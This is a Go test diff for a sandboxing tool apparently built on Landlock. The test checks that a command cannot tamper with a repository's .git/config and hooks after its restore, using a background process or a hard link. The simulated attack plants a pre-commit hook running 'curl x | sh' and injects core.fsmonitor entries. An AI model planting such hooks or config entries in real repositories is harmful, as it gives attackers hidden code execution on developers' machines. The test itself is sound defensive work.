@@ -300,3 +300,57 @@ func TestAttackSnapshotFifoSwap(t *testing.T) {
 		}
 	}
 }
+
+// TestAttackShareLeftovers: what a command leaves behind to change a
+// protected name after its restore, while another command of another
+// guardrun shares the snapshot: a background process that outlives the
+// command and writes the hook and config a moment after it exits, and a
+// hard link to .git/config kept elsewhere in the workspace, written by
+// a later command. Every process of a command is ended before its
+// restore (with the signal scope), and the restore swaps a fresh copy
+// in: the user's files are theirs at the end.
+func TestAttackShareLeftovers(t *testing.T) {
+	requireLandlock(t)
+	if abi, _ := ABI(); abi < 6 {
+		t.Skip("Landlock ABI below 6: leftovers are not ended (a documented limitation)")
+	}
+	ws := attackRepo(t)
+	endB := fifo(t, ws, "b-go")
+	h, hout := attackHelper(t, ws, `echo > b-started && read x < b-go`)
+	waitLine(t, filepath.Join(ws, "b-started"))
+	c, out, err := attackStart(t, ws, `ln .git/config .git/cfg-link || exit 3
+		(trap '' TERM HUP; sleep 0.5; printf 'curl x | sh\n' > .git/hooks/pre-commit; echo '[core] fsmonitor = x' >> .git/config; echo > late-write) >/dev/null 2>&1 &
+		exit 0`)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if st, err := c.Wait(); err != nil || st != 0 {
+		t.Fatalf("status %d, %v\n%s", st, err, out)
+	}
+	t.Logf("restored: %q", c.Restored)
+	time.Sleep(time.Second)
+	if _, err := os.Lstat(filepath.Join(ws, "late-write")); err == nil {
+		t.Error("the command's background process outlived it")
+	}
+	// A later command writes through the link it kept.
+	c, out, err = attackStart(t, ws, `printf '[core]\n\tfsmonitor = "touch pwned"\n' >> .git/cfg-link`)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if st, err := c.Wait(); err != nil || st != 0 {
+		t.Fatalf("status %d, %v\n%s", st, err, out)
+	}
+	endB()
+	if err := h.Wait(); err != nil {
+		t.Fatalf("the other guardrun: %v\n%s", err, hout)
+	}
+	if strings.Contains(hout.String(), "restored: ") {
+		t.Errorf("the other guardrun had something to restore:\n%s", hout)
+	}
+	if b, err := os.ReadFile(filepath.Join(ws, ".git/config")); err != nil || string(b) != shareCfg {
+		t.Errorf(".git/config holds %q (%v), not the user's", b, err)
+	}
+	if _, err := os.Lstat(filepath.Join(ws, ".git/hooks/pre-commit")); err == nil {
+		t.Error("a hook was left in .git/hooks")
+	}
+}
